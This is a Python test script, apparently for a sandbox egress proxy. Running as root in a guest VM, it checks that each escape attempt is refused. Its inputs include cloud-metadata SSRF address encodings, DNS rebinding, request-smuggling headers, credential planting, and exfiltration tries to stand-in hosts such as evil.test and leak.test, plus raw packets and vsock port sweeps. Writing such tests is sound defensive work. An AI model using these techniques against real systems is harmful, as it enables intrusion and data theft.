"""refusals.py: runs in the guest as root, which is as much as there is to be had in it. Tries to get out in every way
that must not work, by the agent's proxy and past the agent by the host's port itself, and prints what each was told: a
line of JSON each, with the status and the reason of the answer or how the connection ended, what that was to be, and
what the host is to have recorded (nothing: the reason itself)."""

import base64
import json
import os
import socket
import ssl
import struct
import sys

sys.path.insert(0, sys.argv[1] + "/usr/lib/python3/dist-packages")
AGENT, HOST = ("127.0.0.1", 1080), (2, 1080)
PUBLIC = "44.128.0.2"
CR = "\r\n"


def dial(agent=False):
    stream = socket.socket(socket.AF_INET if agent else socket.AF_VSOCK)
    stream.settimeout(120)
    stream.connect(AGENT if agent else HOST)
    return stream


def read_answer(stream):
    """The head and what there is of the body of one response, in a connection that may stay open."""
    text = b""
    while b"\r\n\r\n" not in text:
        part = stream.recv(65536)
        if not part:
            return text.decode("latin-1")
        text += part
    head, _, body = text.partition(b"\r\n\r\n")
    size = next((int(line.split(b":")[1]) for line in head.split(b"\r\n") if line.lower().startswith(b"content-length:")), 0)
    while len(body) < size:
        part = stream.recv(65536)
        if not part:
            break
        body += part
    return (head + b"\r\n\r\n" + body[:size]).decode("latin-1")


def attempt(name, expected, how, event=None):
    """`event`: "" for what the host need not have heard of."""
    try:
        answer = how() or ""
    except (OSError, EOFError) as error:
        answer = f"{type(error).__name__}: {error}"
    told = answer
    if answer.startswith("HTTP/1.1 "):
        reason = next((line.split(":", 1)[1].strip() for line in answer.split(CR)
                       if line.lower().startswith("x-anchorhold-reason")), "")
        told = f"{answer[9:12]} {reason}"
        # A header has "?" for what is not ASCII in what was recorded.
        event = reason.rpartition("?")[2] if event is None else event
    print(json.dumps({"name": name, "expected": expected, "told": told, "event": event or "", "answer": answer[-600:]}),
          flush=True)


def raw(text, agent=False):
    with dial(agent) as stream:
        stream.sendall(text.encode("latin-1"))
        return read_answer(stream)


def raw_stream(text, agent=False):
    stream = dial(agent)
    stream.sendall(text.encode("latin-1"))
    return stream


def second_answer(stream):
    """Read byte by byte to the end of the first one, so that nothing of the second is taken with it."""
    with stream:
        first = b""
        while b"\r\n\r\n" not in first:
            byte = stream.recv(1)
            if not byte:
                raise EOFError("one answer only: " + first.decode("latin-1"))
            first += byte
        return read_answer(stream)


def head(method, target, host, *fields):
    return CR.join([f"{method} {target} HTTP/1.1", f"Host: {host}", *fields, "", ""])


def connected(target, agent=False):
    stream = dial(agent)
    stream.sendall(head("CONNECT", target, target).encode())
    answer = read_answer(stream)
    if not answer.startswith("HTTP/1.1 200"):
        raise EOFError(answer)
    return stream


def connect(target, agent=False):
    return raw(head("CONNECT", target, target), agent)


def inside(target, text):
    """In a connection that is not opened and speaks plainly."""
    with connected(target) as stream:
        stream.sendall(text.encode("latin-1"))
        return read_answer(stream)


def encrypted(target, name, protocols=("http/1.1",)):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(list(protocols))
    return context.wrap_socket(connected(target), server_hostname=name)


def inside_tls(target, name, text, times=1):
    with encrypted(target, name) as stream:
        stream.sendall(text.encode("latin-1"))
        for _ in range(times - 1):
            read_answer(stream)
        return read_answer(stream)


def http2(*requests):
    """The status and reason that the last of these requests over one opened connection gets."""
    import h2.config
    import h2.connection
    import h2.events
    with encrypted("open.test:443", "open.test", ("h2",)) as stream:
        connection = h2.connection.H2Connection(h2.config.H2Configuration(validate_outbound_headers=False))
        connection.initiate_connection()
        for authority, method, *protocol in requests:
            number = connection.get_next_available_stream_id()
            fields = [(":method", method), (":authority", authority)]
            if method != "CONNECT" or protocol:
                fields += [(":scheme", "https"), (":path", "/hello")]
            fields += [(":protocol", name) for name in protocol]
            connection.send_headers(number, fields, end_stream=True)
        stream.sendall(connection.data_to_send())
        while True:
            received = stream.recv(65536)
            if not received:
                raise EOFError("closed")
            for event in connection.receive_data(received):
                if isinstance(event, h2.events.ResponseReceived) and event.stream_id == number:
                    fields = {name.decode(): value.decode() for name, value in event.headers}
                    return f"HTTP/1.1 {fields[':status']} -{CR}x-anchorhold-reason: {fields.get('x-anchorhold-reason', '')}{CR}{CR}"
                if isinstance(event, h2.events.StreamReset) and event.stream_id == number:
                    return f"stream reset, {event.error_code!r}"
            stream.sendall(connection.data_to_send())


def datagram(address, payload):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as stream:
        stream.settimeout(2)
        stream.connect((address, 443))
        stream.send(payload)
        return stream.recv(100).decode("latin-1")


get = head("GET", "/hello", "open.test")

def plainly(address, port, text):
    """As a program that knows of no proxy."""
    with socket.create_connection((address, port), 120) as stream:
        stream.sendall(text.encode())
        return read_answer(stream)


NO_RULE, NO_HOST, CLOSED = "403 no rule names", "400 ", "access denied"
LEADS = "403 {} leads to {}"

# What is allowed is reached by both: what follows is refused for what it is.
attempt("allowed, past the agent", "200 ", lambda: inside_tls("open.test:443", "open.test", get))
attempt("allowed, by the agent", "200 ", lambda: connect("site.test:443", agent=True))

DESTINATIONS = {
    "no rule": ("denied.test:443", NO_RULE), "another port": ("site.test:8443", NO_RULE),
    "a name that only begins so": ("site.test.evil.test:443", NO_RULE), "a name that only ends so": ("evilsite.test:443", NO_RULE),
    "a secret as a name": ("c2VjcmV0LWRhdGEtbGVhdmVz.leak.test:443", NO_RULE),
    "port 0": ("site.test:0", NO_HOST), "port 65536": ("site.test:65536", NO_HOST), "no port": ("site.test", NO_HOST),
    "a space": ("site .test:443", NO_HOST), "an empty label": ("site..test:443", NO_HOST), "percent": ("%73ite.test:443", NO_HOST),
    "a user": ("me@site.test:443", NO_HOST), "two dots at the end": ("site.test..:443", NO_HOST),
    "a label of 64": ("a" * 64 + ".site.test:443", NO_HOST), "a name of 263": ("a." * 127 + "site.test:443", NO_HOST),
    "NUL": ("site.test\0.evil.test:443", NO_HOST), "an underscore at an end": ("a_.site.test:443", NO_HOST),
    "loopback": ("127.0.0.1:80", NO_RULE), "loopback, decimal": ("2130706433:80", NO_RULE),
    "loopback, octal": ("0177.0.0.1:80", NO_RULE), "loopback, short": ("127.1:80", NO_RULE),
    "loopback, IPv6": ("[::1]:80", NO_RULE), "localhost": ("localhost:80", NO_RULE), "private": ("10.0.0.1:443", NO_RULE),
    "metadata": ("169.254.169.254:80", NO_RULE), "metadata, decimal": ("2852039166:80", NO_RULE),
    "metadata, hex": ("0xa9fea9fe:80", NO_RULE), "metadata, octal": ("0251.0376.0251.0376:80", NO_RULE),
    "metadata, mixed": ("0xa9.254.0251.254:80", NO_RULE), "metadata, short": ("169.254.43518:80", NO_RULE),
    "metadata, mapped": ("[::ffff:169.254.169.254]:80", NO_RULE), "metadata, mapped hex": ("[::ffff:a9fe:a9fe]:80", NO_RULE),
    "metadata, NAT64": ("[64:ff9b::a9fe:a9fe]:80", NO_HOST), "metadata, 6to4": ("[2002:a9fe:a9fe::]:80", NO_HOST),
    "metadata, IPv6": ("[fd00:ec2::254]:80", NO_RULE), "metadata, a zone": ("[fe80::a9fe:a9fe%25eth0]:80", NO_HOST),
    "the host's own": ("44.128.0.1:443", NO_RULE), "an address without a rule": (PUBLIC + ":443", NO_RULE),
    "a name of metadata": ("metadata.site.test:443", LEADS.format("metadata.site.test:443", "169.254.169.254")),
    "a name of ::1": ("loop6.site.test:443", LEADS.format("loop6.site.test:443", "::1")),
    "a name of a mapped address": ("mapped.site.test:443", LEADS.format("mapped.site.test:443", "169.254.169.254")),
    "a name of an alias of a private one": ("inward.site.test:443", LEADS.format("inward.site.test:443", "10.0.0.1")),
    **{f"a name of {address}": (f"to-{address.replace('.', '-').replace(':', '-')}.site.test:443",
                                LEADS.format(f"to-{address.replace('.', '-').replace(':', '-')}.site.test:443", address))
       for address in ("10.0.0.1", "172.16.0.1", "192.168.0.1", "100.64.0.1", "127.0.0.1", "169.254.1.1", "224.0.0.251",
                       "0.0.0.0", "255.255.255.255", "240.0.0.1", "192.0.2.1", "198.18.1.0", "44.128.0.1", "fd00::1",
                       "fe80::1", "ff02::fb", "2001:db8::1", "fd61:6e63:686f:7264::c612:100", "2a0f:ac00::1")},
    "a name of ::": ("to-nothing.site.test:443", LEADS.format("to-nothing.site.test:443", "::")),
    "a name of NAT64": ("to-64-ff9b--a9fe-a9fe.site.test:443", "403 to-64-ff9b--a9fe-a9fe.site.test:443 leads to "),
    "a name of 6to4": ("to-2002-a9fe-a9fe--1.site.test:443", "403 to-2002-a9fe-a9fe--1.site.test:443 leads to "),
    "a denied name below an allowed one": ("x.closed.site.test:443", "403 "),
    "the name itself of a wildcard": ("wild.test:443", NO_RULE), "a wildcard with a hyphen": ("evil-wild.test:443", NO_RULE),
    "the port of an address": ("44.128.0.7:443", NO_RULE), "a tab": ("site\t.test:443", NO_HOST),
    "a control character": ("site.test\x7f:443", NO_HOST), "an escape": ("\x1b[1msite.test:443", NO_HOST),
    "a slash": ("site.test/x:443", NO_HOST), "a backslash": ("site.test\\x:443", NO_HOST), "a hash": ("site.test#x:443", NO_HOST),
    "an underscore at the beginning": ("_a.site.test:443", NO_HOST), "a hyphen at an end": ("a-.site.test:443", NO_HOST),
    "a port in hex": ("site.test:0x1bb", NO_HOST), "a port with a sign": ("site.test:+443", NO_HOST),
    "two ports": ("site.test:443:80", NO_HOST), "only a port": (":443", NO_HOST), "bytes that are no text": ("\xff\xfe.site.test:443", NO_HOST),
    "another script": ("s\xd1\x96te.test:443", NO_RULE), "an address beyond the last": ("256.1.1.1:443", NO_HOST),
    "an address of five": ("1.2.3.4.5:443", NO_HOST), "an address, compatible": ("[::a9fe:a9fe]:80", NO_HOST),
    "an address, translated": ("[::ffff:0:a9fe:a9fe]:80", NO_HOST), "an address, Teredo": ("[2001:0:a9fe:a9fe::1]:80", NO_HOST),
    "one of two addresses is private": ("mixed.site.test:443", LEADS.format("mixed.site.test:443", "10.0.0.1")),
}
for by, agent in (("by the agent", True), ("past it", False)):
    for name, (target, expected) in DESTINATIONS.items():
        attempt(f"CONNECT {by}: {name}", expected, lambda: connect(target, agent))
    attempt(f"absolute form {by}: another Host", "400 the Host field says other.test:80",
            lambda: raw(head("GET", "http://site.test/hello", "other.test"), agent))
    attempt(f"absolute form {by}: no rule", NO_RULE, lambda: raw(head("GET", "http://denied.test/", "denied.test"), agent))
    attempt(f"absolute form {by}: port 443", "403 plain HTTP does not belong on port 443",
            lambda: raw(head("GET", "http://site.test:443/", "site.test:443"), agent))
    for target in ("http://site.test@denied.test/", "http://denied.test\\@site.test/", "http://site.test#@denied.test/",
                   "http://site.test:80@denied.test/", "ftp://site.test/hello", "https://site.test/hello", "HTTP:/site.test/",
                   "//site.test/hello", "http://[::1]:80@site.test/"):
        attempt(f"absolute form {by}: {target}", "40", lambda: raw(head("GET", target, "site.test"), agent))
    attempt(f"CONNECT with a body {by}", "400 ", lambda: raw(
        head("CONNECT", "site.test:443", "site.test:443", "Content-Length: 5") + "hello", agent))
    attempt(f"CONNECT with another Host {by}", "400 ", lambda: raw(head("CONNECT", "site.test:443", "denied.test:443"), agent))
    attempt(f"two CONNECTs at once {by}", "403 only TLS belongs on port 443", lambda: second_answer(raw_stream(
        head("CONNECT", "site.test:443", "site.test:443") + head("CONNECT", "denied.test:443", "denied.test:443"), agent)))
    attempt(f"origin form {by}", "400 this is a proxy", lambda: raw(head("GET", "/", "site.test"), agent))

# An answer that changes: the first is public and the one that is dialled, the second leads to the host.
attempt("rebinding: at first", "200 ", lambda: connect("rebind.site.test:443"))
attempt("rebinding: then", LEADS.format("rebind.site.test:443", "127.0.0.1"), lambda: connect("rebind.site.test:443"))

# What looks like a refusal and is none: the spelling, not the name.
for target in ("SITE.test:443", "site.test.:443", "\xef\xbd\x93ite.test:443", "alias.site.test:443", "outward.site.test:443",
               "x.wild.test:443"):
    attempt("another spelling: " + target, "502 " if target.startswith(("outward", "x.")) else "200 ", lambda: connect(target), "")
# An address opens by its own rule only, not by a name that leads there, and the other way round.
attempt("an address with a rule", "502 44.128.0.7:80 cannot be reached", lambda: connect("44.128.0.7:80"), "")
attempt("a name of an address with a rule", "403 no rule", lambda: connect("seven.other.test:80"))

# Past the proxy, by what the kernel redirects.
attempt("redirected: an address without a rule", NO_RULE, lambda: plainly(PUBLIC, 80, head("GET", "/hello", PUBLIC)))
attempt("redirected: IPv6 without a rule", NO_RULE, lambda: plainly("2a0f:ac00::3", 80, head("GET", "/hello", "[2a0f:ac00::3]")))
attempt("redirected: IPv6 with a rule", "200 ", lambda: plainly("2a0f:ac00::2", 80, head("GET", "/hello", "[2a0f:ac00::2]")))
attempt("redirected: IPv6, another port", "ConnectionReset", lambda: plainly("2a0f:ac00::2", 443, head("GET", "/", "a")),
        "no rule names [2a0f:ac00::2]:443")
for address in ("169.254.169.254", "10.0.0.1", "::ffff:169.254.169.254", "fd00:ec2::254", "fe80::1", "2002:a9fe:a9fe::1",
                "64:ff9b::a9fe:a9fe", "224.0.0.1", "255.255.255.255", "fd61:6e63:686f:7264::1", "198.18.255.1"):
    attempt("redirected: " + address, "", lambda: plainly(address, 80, head("GET", "/latest/meta-data/", "metadata")), "")

# SNI, Host and CONNECT that do not agree, each pair of them.
IS_FOR = "403 the request is for {} on a connection to {}"
attempt("SNI is not CONNECT, tunnelled", CLOSED, lambda: inside_tls("site.test:443", "open.test", get),
        "the TLS connection is for open.test")
attempt("SNI is not CONNECT, opened", CLOSED, lambda: inside_tls("open.test:443", "other.test", get),
        "the TLS connection is for other.test")
attempt("SNI and Host are not CONNECT", CLOSED, lambda: inside_tls("open.test:443", "site.test", head("GET", "/hello", "site.test")),
        "the TLS connection is for site.test")
attempt("no SNI", CLOSED, lambda: inside_tls("site.test:443", None, get), "does not say that it is for site.test")
attempt("Host is not CONNECT and SNI", IS_FOR.format("site.test:443", "open.test:443"),
        lambda: inside_tls("open.test:443", "open.test", head("GET", "/hello", "site.test")))
attempt("Host names another port", IS_FOR.format("open.test:8443", "open.test:443"),
        lambda: inside_tls("open.test:443", "open.test", head("GET", "/hello", "open.test:8443")))
attempt("Host is not CONNECT, plain", IS_FOR.format("other.test:80", "site.test:80"),
        lambda: inside("site.test:80", head("GET", "/hello", "other.test")))
attempt("HTTP/2: another authority", IS_FOR.format("site.test:443", "open.test:443"),
        lambda: http2(("open.test", "GET"), ("site.test", "GET")))
attempt("HTTP/2: a name of the same certificate", IS_FOR.format("other.test:443", "open.test:443"),
        lambda: http2(("open.test", "GET"), ("other.test", "GET")))
attempt("HTTP/2: nested CONNECT", "403 ", lambda: http2(("open.test", "GET"), ("denied.test:443", "CONNECT")))
attempt("WebSocket to another host", IS_FOR.format("other.test:443", "open.test:443"),
        lambda: inside_tls("open.test:443", "open.test", head(
            "GET", "/socket", "other.test", "Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13",
            "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==")))

# A WebSocket in HTTP/2 (RFC 8441), which was not offered.
for host in ("open.test", "other.test"):
    attempt("HTTP/2: extended CONNECT to " + host, "stream reset", lambda: http2(("open.test", "GET"), (host, "CONNECT", "websocket")), "")
attempt("HTTP/2 in plain sight, port 80", "40", lambda: inside("site.test:80", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))
attempt("HTTP/2 in plain sight, opened", "40", lambda: inside_tls("open.test:443", "open.test", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"))
attempt("HTTP/2 by an upgrade the server takes", "502 open.test:443 did not answer", lambda: inside_tls("open.test:443", "open.test", head(
    "GET", "/upgrade", "open.test", "Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAoAAA")), "")
attempt("a line of HTTP/0.9", "400 ", lambda: inside("site.test:80", "GET /hello\r\n\r\n"))
attempt("a version that is none", "40", lambda: inside("site.test:80", "GET /hello HTTP/3.0\r\nHost: site.test\r\n\r\n"))
for name in ("open.test.", "OPEN.test"):
    attempt("SNI with another spelling: " + name, "403 the path", lambda: inside_tls(
        "open.test:443", name, head("GET", "/secret/x", "open.test")))

# What the rule of an opened connection does not allow.
PATH = "403 the path is not allowed"
attempt("method", "403 the method DELETE is not allowed",
        lambda: inside_tls("open.test:443", "open.test", head("DELETE", "/hello", "open.test")))
for path in ("/secret/x", "/git/../secret/x", "/%73ecret/x", "/git/%2e%2e/secret/x", "//hello"):
    attempt("path " + path, "40", lambda: inside_tls("open.test:443", "open.test", head("GET", path, "open.test")))
attempt("header", "403 ", lambda: inside_tls("open.test:443", "open.test", head(
    "GET", "/hello", "open.test", "X-Fetch-Url: http://evil.test/")))
for body in ('{"image_url": "http://evil.test/"}', '{"a": [{"IMAGE\\u005furl" : 1}]}'):
    attempt("field in JSON: " + body, "403 the body has the field image_url", lambda: inside_tls(
        "open.test:443", "open.test", head("POST", "/hello", "open.test", f"Content-Length: {len(body)}") + body))
attempt("field in JSON, compressed", "403 a compressed body", lambda: inside_tls("open.test:443", "open.test", head(
    "POST", "/hello", "open.test", "Content-Encoding: gzip", "Content-Length: 3") + "abc"))
attempt("nested CONNECT", "there is one proxy", lambda: inside_tls("open.test:443", "open.test", head(
    "CONNECT", "denied.test:443", "denied.test:443")))
attempt("nested CONNECT, plain", "there is one proxy", lambda: inside("site.test:80", head(
    "CONNECT", "denied.test:443", "denied.test:443")))
attempt("pipelined second", PATH, lambda: inside_tls("open.test:443", "open.test", get + head("GET", "/secret/x", "open.test"), 2))
attempt("pipelined second to another", IS_FOR.format("site.test:443", "open.test:443"),
        lambda: inside_tls("open.test:443", "open.test", get + head("GET", "/hello", "site.test"), 2))
for name, fields, body in (
        ("both lengths", ("Content-Length: 3", "Transfer-Encoding: chunked"), "0\r\n\r\n"),
        ("two lengths", ("Content-Length: 3", "Content-Length: 4"), "abcd"),
        ("an unknown coding", ("Transfer-Encoding: xchunked",), "0\r\n\r\n"),
        ("a space before the colon", ("Content-Length : 3",), "abc"), ("a folded line", ("X-A: b", " Content-Length: 3"), "abc"),
        ("a signed length", ("Content-Length: +3",), "abc"), ("two hosts", ("Host: denied.test",), ""),
        ("a bare line feed", ("X-A: b\nTransfer-Encoding: chunked",), "0\r\n\r\n")):
    attempt("smuggling: " + name, "400 ", lambda: inside_tls("open.test:443", "open.test", head("POST", "/hello", "open.test", *fields) + body))

attempt("more than may be sent", "403 a body of more than 1 KiB", lambda: inside_tls("small.open.test:443", "small.open.test",
                                                           head("POST", "/hello", "small.open.test", "Content-Length: 1025") + "x" * 1025))
attempt("more than may be sent, in pieces", "403 a body of more than 1 KiB", lambda: inside_tls(
    "small.open.test:443", "small.open.test",
    head("POST", "/hello", "small.open.test", "Transfer-Encoding: chunked") + "401\r\n" + "x" * 1025 + "\r\n0\r\n\r\n"))

# Whose credential it is. The session's token is the only one that there is in the guest.
TOKEN = os.environ["ANCHORHOLD_TOKEN"]
OURS = "Authorization: Bearer " + TOKEN
FOREIGN, ELSEWHERE = "401 the field '{}' carries a credential that is not this session's", "403 the session's token belongs to another"
def basic(text):
    return "Authorization: Basic " + base64.b64encode(text.encode()).decode()


def shown(*fields, path="/hello", method="GET", body="", host="credential.test"):
    fields = [*fields, f"Content-Length: {len(body)}"] if body else fields
    return inside_tls(host + ":443", host, head(method, path, host, *fields) + body)


attempt("the token where it belongs", "200 ", lambda: shown(OURS))
attempt("no credential", "401 a request to credential.test:443 must carry", lambda: shown())
for name, fields, field in (
        ("header", ["Authorization: Bearer planted-key"], "authorization"),
        ("Basic", [basic("user:planted-key")], "authorization"), ("Basic with the token", [basic("user:" + TOKEN)], "authorization"),
        ("another header", [OURS, "X-Api-Key: planted-key"], "x-api-key"),
        ("a header of somebody's own", [OURS, "X-Figma-Token: planted-key"], "x-figma-token"),
        ("cookie", [OURS, "Cookie: session=planted-key"], "cookie"),
        ("after the token", ["Authorization: Bearer " + TOKEN + ", Bearer planted-key"], "authorization"),
        ("a second one", [OURS, "Authorization: Bearer planted-key"], "authorization"),
        ("for the proxy", [OURS, "Proxy-Authorization: Basic cGxhbnRlZC1rZXk="], "proxy-authorization")):
    attempt("planted: " + name, FOREIGN.format(field), lambda: shown(*fields))
for parameter in ("api_key", "access_token", "X-Plex-Token", "%61pi_key", "password"):
    attempt("planted: query " + parameter, "401 the query parameter", lambda: shown(OURS, path=f"/hello?{parameter}=planted-key"))
attempt("the token twice", "401 the credential stands twice", lambda: shown(OURS, OURS))
attempt("the token in another field", "401 the session's token stands in the field", lambda: shown(OURS, "X-Note: " + TOKEN))
attempt("the token in the address", "401 the session's token stands in the address", lambda: shown(OURS, path="/" + TOKEN))
attempt("a credential to be sent back", "403 TRACE", lambda: shown(OURS, method="TRACE"))
attempt("a credential in plain HTTP", "403 a credential goes over TLS only", lambda: raw(
    head("GET", "http://credential.test/hello", "credential.test", OURS)))
attempt("a secret sent back", "200 ", lambda: shown(OURS, path="/headers"), "")
for name, fields, path, body in (
        ("header", [OURS], "/hello", ""), ("Basic", [basic("user:" + TOKEN)], "/hello", ""), ("cookie", ["Cookie: a=" + TOKEN], "/hello", ""),
        ("query", [], "/hello?q=" + TOKEN, ""), ("name of a field", [TOKEN + ": a"], "/hello", ""), ("body", [], "/hello", "a=" + TOKEN),
        ("body in base64", [], "/hello", base64.b64encode(b"ab" + TOKEN.encode()).decode())):
    attempt("the token elsewhere: " + name, "403 ", lambda: shown(
        *fields, path=path, body=body, method="POST" if body else "GET", host="x.open.test"), "session's token")
attempt("the token elsewhere: plain", ELSEWHERE, lambda: raw(head("GET", "http://site.test/hello", "site.test", OURS)))

# Each port speaks its own protocol.
attempt("plain HTTP to 443", "403 only TLS belongs on port 443", lambda: inside("site.test:443", head("GET", "/hello", "site.test")))
attempt("TLS to 80", CLOSED, lambda: inside_tls("site.test:80", "site.test", get), "TLS")
attempt("SSH to 443", "403 only TLS belongs on port 443", lambda: inside("site.test:443", "SSH-2.0-OpenSSH_9.2\r\n"))
attempt("TLS to the proxy", "400 ", lambda: raw("\x16\x03\x01\x02\x00\x01\x00" * 40))
attempt("QUIC", "refused", lambda: datagram(PUBLIC, b"\xc3" + struct.pack("!I", 1) + bytes(1200)), "")
attempt("QUIC, IPv6", "refused", lambda: datagram("2a0f:ac00::2", b"\xc3" + struct.pack("!I", 1) + bytes(1200)), "")

# Servers that are not who they should be, or not there.
attempt("certificate has expired", "502 ", lambda: inside_tls("expired.open.test:443", "expired.open.test", head("GET", "/hello", "expired.open.test")), "")
attempt("certificate is another's", "502 ", lambda: inside_tls("wrong.open.test:443", "wrong.open.test", head("GET", "/hello", "wrong.open.test")), "")
attempt("no name server answers", "502 silent.site.test could not", lambda: connect("silent.site.test:443"), "")
attempt("there is no such name", "502 there is no address", lambda: connect("none.site.test:443"), "")

# Nothing but the port that the host opened, and nothing of the host's own proxy.
for port in (22, 53, 80, 443, 1079, 1081, 8080):
    def knock():
        with socket.socket(socket.AF_VSOCK) as stream:
            stream.settimeout(60)
            stream.connect((2, port))
            return "connected"
    attempt(f"port {port} of the host", "Connection reset", knock, "")
def sweep():
    opened = []
    for port in (*range(1, 1080), *range(1081, 1200), 2049, 3128, 5000, 6000, 8000, 9000, 65535, 1 << 20, (1 << 32) - 2):
        with socket.socket(socket.AF_VSOCK) as stream:
            stream.settimeout(60)
            try:
                stream.connect((2, port))
                opened.append(port)
            except ConnectionResetError:
                pass
    return f"open: {opened}"


# The agent's own port, by which root could take its place and say what root could do anyway.
attempt("all ports of the host", "open: [1024]", sweep, "")
for cid in (0, 1, 3, 4, 100, (1 << 32) - 1):
    def elsewhere():
        with socket.socket(socket.AF_VSOCK) as stream:
            stream.settimeout(5)
            stream.connect((cid, 1080))
            return "connected"
    attempt(f"another machine's vsock, {cid}", "Error", elsewhere, "")
for kind in (socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
    def other_kind():
        with socket.socket(socket.AF_VSOCK, kind) as stream:
            stream.settimeout(5)
            stream.connect((2, 1080))
            stream.send(b"CONNECT site.test:443 HTTP/1.1\r\nHost: site.test:443\r\n\r\n")
            return stream.recv(100).decode("latin-1")
    attempt(f"vsock of the kind {kind.name}", "Error", other_kind, "")


def by_wire():
    """Frames past all tables of the kernel, by every device that there is."""
    for _, device in socket.if_nameindex():
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as wire:
            wire.bind((device, 0x0800))
            wire.send(b"\xff" * 6 + b"\x02" + bytes(5) + b"\x08\x00" + b"secret that leaves")
    return "sent"


def by_packets():
    for protocol in (1, 4, 6, 17, 41, 47, 132, 254):
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as wire:
            wire.sendto(b"secret that leaves", (PUBLIC, 0))
        with socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58 if protocol == 1 else protocol) as wire:
            wire.sendto(b"secret that leaves", ("2a0f:ac00::2", 0))
    return "sent, devices " + ",".join(sorted(name for _, name in socket.if_nameindex()))


attempt("frames", "Address family not supported", by_wire, "")
attempt("packets of other protocols", "sent, devices dummy0,lo", by_packets, "")  # the other machine saw none of them
seen = json.dumps(dict(os.environ))
for place in ("/proc/cmdline", "/etc/environment"):
    with open(place) as opened:
        seen += opened.read()
attempt("the host's own proxy", "unseen", lambda: "seen" if "hosts-proxy-password" in seen else "unseen", "")
